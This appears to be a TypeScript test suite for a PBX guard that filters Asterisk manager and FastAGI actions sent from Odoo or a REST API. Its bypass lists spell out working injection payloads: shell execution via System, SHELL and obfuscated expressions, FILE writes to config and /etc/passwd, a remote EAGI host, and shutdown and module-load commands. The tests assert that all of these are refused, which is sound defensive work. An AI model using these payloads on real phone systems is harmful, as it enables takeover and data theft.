/**
 * The action policy through every path that sends caller-chosen actions: the Odoo job endpoint
 * (asterisk.manager_action), REST POST /v1/actions and FastAGI answers. Each bypass of issue 12 is
 * sent for real and the bytes the AMI simulator (or the FastAGI peer) receives are checked:
 * nothing when refused, exactly the expected lines when allowed.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import https from 'node:https';
import { once } from 'node:events';
import Database from 'better-sqlite3';
import { pino } from 'pino';
import { Registry } from 'prom-client';
import type { FastifyInstance } from 'fastify';
import { AmiClient, resolveActionPolicy } from '../src/ami/index.js';
import { AmiSimulator, type SimulatedRequest } from '../src/demo/ami-simulator.js';
import { startOdooBridge, type OdooBridge } from '../src/odoo/index.js';
import { createRestApp, defaultRestConfig } from '../src/rest/index.js';
import { checkCommand, defaultConsoleConfig } from '../src/console/index.js';
import { FakeOdoo, FakeBans } from './helpers/fake-odoo.js';
import { fixturePath } from './helpers/fixtures.js';

const log = pino({ level: 'silent' });
const TOKEN = 'f1c3a0de-5b2b-4c4e-9d7e-1234567890ab';
const ADMIN = 'admin-token-0123456789abcdef';
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'pbxg-action-policy-'));
const DENIED = { deniedActions: [] as string[], deniedApplications: ['System', 'TrySystem'] };

/** The policy as main.ts wires it: the odoo.denied* lists, and Command actions through the console policy. */
function wiredPolicy() {
  const base = resolveActionPolicy(DENIED);
  return { ...base, checkCommand: (c: string) => checkCommand(c, { ...defaultConsoleConfig(), dialplan: base }) };
}

let sim: AmiSimulator;
let ami: AmiClient;
let odoo: FakeOdoo;
let bridge: OdooBridge;
let rest: FastifyInstance;

before(async () => {
  sim = new AmiSimulator({ fixturesDir: fixturePath('ami'), loginFailDelayMs: 10 });
  await sim.listen();
  ami = new AmiClient({ host: '127.0.0.1', port: sim.port, username: 'guardian', secret: 'guardian-secret', events: 'off', reconnectInitialMs: 20 });
  ami.start();
  await once(ami, 'connected');
  odoo = new FakeOdoo({
    eventsMap: [{ id: 10, name: 'route', source: 'FAGI', model: 'asterisk_plus.user', method: 'fagi_request', delay: 0, condition: false }],
  });
  await odoo.start();
  const deps = {
    config: {
      url: odoo.url,
      db: odoo.db,
      user: odoo.user,
      password: odoo.password,
      apiKey: odoo.apiKey,
      agentToken: TOKEN,
      ...DENIED,
      listen: { enabled: true, host: '127.0.0.1', port: 0 },
      fagi: { enabled: true, host: '127.0.0.1', port: 0 },
      recordingDirs: [tmp],
      systemName: 'pbx1',
    },
    ami,
    bans: new FakeBans(),
    db: new Database(':memory:'),
    logger: log,
    registry: new Registry(),
    stateDir: path.join(tmp, 'state'),
    reloadConfig: () => undefined,
    actionPolicy: wiredPolicy(),
  };
  bridge = await startOdooBridge(deps);
  const restDeps = {
    config: { ...defaultRestConfig(), enabled: true, port: 0, tokens: [{ token: ADMIN, scopes: ['admin' as const], name: 'ops' }] },
    ami,
    bans: new FakeBans(),
    actionPolicy: wiredPolicy(),
  };
  rest = createRestApp(restDeps);
  await rest.ready();
  await odoo.waitFor(() => odoo.callsTo('asterisk_plus.event', 'search_read').length === 1);
});
after(async () => {
  await rest.close();
  await bridge.close();
  await odoo.stop();
  await ami.stop();
  await sim.close();
  fs.rmSync(tmp, { recursive: true, force: true });
});

function postJob(body: unknown): Promise<number> {
  const data = JSON.stringify(body);
  return new Promise((resolve, reject) => {
    const req = https.request(
      {
        host: '127.0.0.1',
        port: bridge.agentAddress!.port,
        path: '/app/asterisk_plus/agent',
        method: 'POST',
        rejectUnauthorized: false,
        headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(data), 'x-token': TOKEN },
      },
      (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode ?? 0));
      },
    );
    req.on('error', reject);
    req.end(data);
  });
}

let jobSeq = 0;
/** One asterisk.manager_action job; resolves with the result Odoo received and what AMI received. */
async function viaJob(action: unknown): Promise<{ result: { Response?: string; Message?: string }; sent: SimulatedRequest[] }> {
  const n = sim.requests.length;
  const method = `r${++jobSeq}`;
  assert.equal(await postJob({ fun: 'asterisk.manager_action', args: action, res_model: 'p.test', res_method: method }), 200);
  await odoo.waitFor(() => odoo.callsTo('p.test', method).length === 1, 5000, method);
  return { result: odoo.callsTo('p.test', method)[0]!.args[0] as { Response?: string; Message?: string }, sent: sentSince(n) };
}

async function viaRest(action: unknown): Promise<{ status: number; error: string; sent: SimulatedRequest[] }> {
  const n = sim.requests.length;
  const r = await rest.inject({ method: 'POST', url: '/v1/actions', headers: { authorization: `Bearer ${ADMIN}` }, payload: action as object });
  return { status: r.statusCode, error: String((JSON.parse(r.body) as { error?: string }).error ?? ''), sent: sentSince(n) };
}

function sentSince(n: number): SimulatedRequest[] {
  return sim.requests.slice(n).filter((r) => r.action.toLowerCase() !== 'ping'); // the client's keepalive
}
/** The bytes of the request as received (the simulator's frame plus its blank line), the client's ActionID masked. */
const wire = (r: SimulatedRequest) => `${r.raw}\r\n\r\n`.replace(/^ActionID: [^\r\n]*\r\n/m, 'ActionID: *\r\n');

const ORIG = { Action: 'Originate', Channel: 'Local/100@default', Exten: '100', Context: 'default', Priority: '1', Async: 'true' };
/** Every bypass reproduced in issue 12 (and its neighbours); REST's schema wants the key "Action". */
export const BYPASSES: Array<[string, Record<string, unknown>]> = [
  ['second action-like key', { action: 'Originate', Action: 'Ping', Channel: 'Local/1@default', Application: 'System', Data: 'touch /tmp/pwn' }],
  ['Application list checked joined, sent as two headers', { ...ORIG, Application: ['System', 'Playback'], Data: 'touch /tmp/pwn' }],
  ['AGI with a path', { ...ORIG, Application: 'AGI', Data: '/bin/sh' }],
  ['EAGI to a remote FastAGI server', { ...ORIG, Application: 'EAGI', Data: 'agi://203.0.113.9/x' }],
  ['Exec with a name assembled at run time', { ...ORIG, Application: 'Exec', Data: '${SH${EMPTY}ELL(touch /tmp/pwn)}' }],
  ['Set with EVAL', { ...ORIG, Application: 'Set', Data: 'X=${EVAL(${Y})}' }],
  ['Set writing FILE', { ...ORIG, Application: 'Set', Data: 'FILE(/etc/asterisk/manager_custom.conf)=[evil]' }],
  ['MixMonitor post-command', { ...ORIG, Application: 'MixMonitor', Data: 'x.wav,,touch /tmp/pwn' }],
  ['ExternalIVR', { ...ORIG, Application: 'ExternalIVR', Data: '/bin/sh' }],
  ['Originate of the Originate application', { ...ORIG, Application: 'Originate', Data: 'Local/1@default,app,System,touch /tmp/pwn' }],
  ['Originate Variable writing FILE', { ...ORIG, Variable: ['A=1', 'FILE(/etc/asterisk/manager_custom.conf)=[x]'] }],
  ['Originate Variable items split on commas', { ...ORIG, Variable: 'A=1,FILE(/etc/x)=y' }],
  ['Originate Variable setting MONITOR_EXEC', { ...ORIG, Variable: { __MONITOR_EXEC: '/bin/touch /tmp/pwn' } }],
  ['Local channel with an expression', { ...ORIG, Channel: 'Local/${SHELL(id)}@default' }],
  ['Getvar of SHELL', { Action: 'Getvar', Variable: 'SHELL(touch /tmp/pwn)' }],
  ['Getvar of EVAL', { Action: 'Getvar', Variable: 'EVAL(${X})' }],
  ['Setvar of FILE', { Action: 'Setvar', Channel: 'PJSIP/100-1', Variable: 'FILE(/etc/passwd)', Value: 'x' }],
  ['Setvar of MONITOR_EXEC', { Action: 'Setvar', Channel: 'PJSIP/100-1', Variable: 'MONITOR_EXEC', Value: '/bin/sh' }],
  ['Status reading SHELL', { Action: 'Status', Variables: 'A,SHELL(id)' }],
  ['Command core stop now', { Action: 'Command', Command: 'core stop now' }],
  ['Command hiding core stop in quotes', { Action: 'Command', Command: '"core" "stop" now' }],
  ['Command channel originate AGI', { Action: 'Command', Command: 'channel originate Local/1@default application AGI /bin/sh' }],
  ['UpdateConfig', { Action: 'UpdateConfig', SrcFilename: 'manager.conf', DstFilename: 'manager.conf', 'Action-000000': 'NewCat', 'Cat-000000': 'evil' }],
  ['CreateConfig', { Action: 'CreateConfig', Filename: 'evil.conf' }],
  ['ModuleLoad', { Action: 'ModuleLoad', Module: 'app_system.so', LoadType: 'load' }],
  ['MixMonitor action with Command', { Action: 'MixMonitor', Channel: 'PJSIP/100-1', File: 'x.wav', Command: 'touch /tmp/pwn' }],
  ['Events off blinds the guard', { Action: 'Events', EventMask: 'off' }],
  ['GetConfig reads manager.conf secrets', { Action: 'GetConfig', Filename: 'manager.conf' }],
];

test('every bypass through the Odoo job endpoint: an Error result naming the rule, and nothing reaches AMI', async () => {
  for (const [name, action] of BYPASSES) {
    const { result, sent } = await viaJob(action);
    assert.deepEqual(sent.map(wire), [], `${name}: sent to AMI`);
    assert.equal(result.Response, 'Error', name);
    assert.match(String(result.Message), /refused/, name);
  }
});

test('every bypass through REST POST /v1/actions: 403 naming the rule, and nothing reaches AMI', async () => {
  for (const [name, action] of BYPASSES) {
    const body = 'Action' in action ? action : { Action: 'Ping', ...action };
    const r = await viaRest(body);
    assert.deepEqual(r.sent.map(wire), [], `${name}: sent to AMI`);
    assert.equal(r.status, 403, name);
    assert.match(r.error, /refused/, name);
  }
});

const crlf = (lines: string[]) => lines.map((l) => l + '\r\n').join('') + '\r\n';
/** Odoo's legitimate uses, with the exact lines Asterisk must receive. */
const LEGITIMATE: Array<[Record<string, unknown>, string[]]> = [
  [
    { Action: 'Originate', Context: 'from-internal', Priority: '1', Timeout: 60000, Channel: 'PJSIP/101', Exten: '100', Async: 'true' },
    ['Action: Originate', 'ActionID: *', 'Context: from-internal', 'Priority: 1', 'Timeout: 60000', 'Channel: PJSIP/101', 'Exten: 100', 'Async: true'],
  ],
  [
    {
      Action: 'Originate',
      Channel: 'SIP/trunk/5551234',
      Context: 'from-crm',
      Exten: '5551234',
      Priority: 1,
      CallerID: '"Sales" <100>',
      Variable: ['CALLERID(name)=Sales', 'CONNECTEDLINE(num)=5551234', '__ODOO_PARTNER=42', 'PJSIP_HEADER(add,X-Odoo)=1'],
    },
    [
      'Action: Originate',
      'ActionID: *',
      'Channel: SIP/trunk/5551234',
      'Context: from-crm',
      'Exten: 5551234',
      'Priority: 1',
      'CallerID: "Sales" <100>',
      'Variable: CALLERID(name)=Sales',
      'Variable: CONNECTEDLINE(num)=5551234',
      'Variable: __ODOO_PARTNER=42',
      'Variable: PJSIP_HEADER(add,X-Odoo)=1',
    ],
  ],
  [
    { Action: 'Originate', Channel: 'PJSIP/101', Application: 'Playback', Data: 'hello-world' },
    ['Action: Originate', 'ActionID: *', 'Channel: PJSIP/101', 'Application: Playback', 'Data: hello-world'],
  ],
  [
    { Action: 'Originate', Channel: 'Local/101@from-internal', Application: 'Dial', Data: 'PJSIP/102,30,tT' },
    ['Action: Originate', 'ActionID: *', 'Channel: Local/101@from-internal', 'Application: Dial', 'Data: PJSIP/102,30,tT'],
  ],
  [
    { Action: 'Originate', Channel: 'PJSIP/101', Application: 'MixMonitor', Data: '2024/01/02/call.wav,b' },
    ['Action: Originate', 'ActionID: *', 'Channel: PJSIP/101', 'Application: MixMonitor', 'Data: 2024/01/02/call.wav,b'],
  ],
  [
    { Action: 'Getvar', Channel: 'PJSIP/101-00000001', Variable: 'DIALSTATUS' },
    ['Action: Getvar', 'ActionID: *', 'Channel: PJSIP/101-00000001', 'Variable: DIALSTATUS'],
  ],
  [
    { Action: 'Getvar', Channel: 'PJSIP/101-00000001', Variable: 'CHANNEL(peerip)' },
    ['Action: Getvar', 'ActionID: *', 'Channel: PJSIP/101-00000001', 'Variable: CHANNEL(peerip)'],
  ],
  [
    { Action: 'Setvar', Channel: 'PJSIP/101-00000001', Variable: 'ODOO_CALL', Value: '42' },
    ['Action: Setvar', 'ActionID: *', 'Channel: PJSIP/101-00000001', 'Variable: ODOO_CALL', 'Value: 42'],
  ],
  [
    { Action: 'QueueAdd', Queue: 'sales', Interface: 'PJSIP/101', Penalty: 0, Paused: 'false' },
    ['Action: QueueAdd', 'ActionID: *', 'Queue: sales', 'Interface: PJSIP/101', 'Penalty: 0', 'Paused: false'],
  ],
  [
    { Action: 'Redirect', Channel: 'PJSIP/101-00000001', Context: 'from-internal', Exten: '200', Priority: 1 },
    ['Action: Redirect', 'ActionID: *', 'Channel: PJSIP/101-00000001', 'Context: from-internal', 'Exten: 200', 'Priority: 1'],
  ],
  [{ Action: 'Hangup', Channel: 'PJSIP/101-00000001' }, ['Action: Hangup', 'ActionID: *', 'Channel: PJSIP/101-00000001']],
  [{ Action: 'ExtensionState', Exten: '100', Context: 'default' }, ['Action: ExtensionState', 'ActionID: *', 'Exten: 100', 'Context: default']],
  [{ Action: 'PJSIPShowEndpoints' }, ['Action: PJSIPShowEndpoints', 'ActionID: *']],
  [{ Action: 'Command', Command: 'pjsip show endpoints' }, ['Action: Command', 'ActionID: *', 'Command: pjsip show endpoints']],
];

test('legitimate Odoo actions pass byte for byte, through the job endpoint and REST', async () => {
  for (const [action, lines] of LEGITIMATE) {
    const j = await viaJob(action);
    assert.deepEqual(j.sent.map(wire), [crlf(lines)], `job ${String(action.Action)}: ${j.result.Message ?? ''}`);
    const r = await viaRest(action);
    assert.deepEqual(r.sent.map(wire), [crlf(lines)], `REST ${String(action.Action)}: ${r.error}`);
  }
});

/** Play Asterisk on a FastAGI connection; returns the command lines the guardian wrote. */
async function agiSession(answerWith: string[]): Promise<string[]> {
  odoo.responders.set('asterisk_plus.user.fagi_request', () => answerWith);
  const port = bridge.fagiAddress!.port;
  const sock = net.connect(port, '127.0.0.1');
  sock.setEncoding('utf8');
  const cmds: string[] = [];
  let buf = '';
  await once(sock, 'connect');
  sock.write(`agi_network: yes\nagi_network_script: route\nagi_request: agi://127.0.0.1:${port}/route\nagi_channel: PJSIP/trunk-1\n\n`);
  sock.on('data', (d: string) => {
    buf += d;
    let i: number;
    while ((i = buf.indexOf('\n')) >= 0) {
      cmds.push(buf.slice(0, i));
      buf = buf.slice(i + 1);
      sock.write('200 result=0\n');
    }
  });
  await once(sock, 'end');
  sock.destroy();
  return cmds;
}

test('FastAGI: commands Odoo answers with are judged before they are written; a refused one ends the request', async () => {
  const refused = [
    'EXEC System "touch /tmp/pwn"',
    'exec trysystem id',
    'EXEC AGI /bin/sh',
    'EXEC Exec ${SH${EMPTY}ELL(id)}',
    'EXEC Set FILE(/etc/x)=y',
    'EXEC MixMonitor x.wav,,/bin/touch\\ /tmp/pwn',
    'EXEC ExternalIVR /bin/sh',
    'GET FULL VARIABLE ${SHELL(id)}',
    'GET FULL VARIABLE ${EVAL(${X})}',
    'GET VARIABLE SHELL(id)',
    'SET VARIABLE MONITOR_EXEC /bin/sh',
    'SET VARIABLE FILE(/etc/x) y',
    'EXEC "Sys"tem id',
    'EXEC Playback $\\{SHELL(id)}',
  ];
  for (const cmd of refused) assert.deepEqual(await agiSession(['ANSWER', cmd, 'EXEC Playback hello']), ['ANSWER'], cmd);
  const fine = [
    'ANSWER',
    'EXEC Playback hello-world',
    'EXEC Dial PJSIP/101,30,t',
    'SET VARIABLE ODOO_CALL 42',
    'GET FULL VARIABLE ${CALLERID(num)}',
    'EXEC AGI agi://127.0.0.1/route',
    'HANGUP',
  ];
  assert.deepEqual(await agiSession(fine), fine);
});
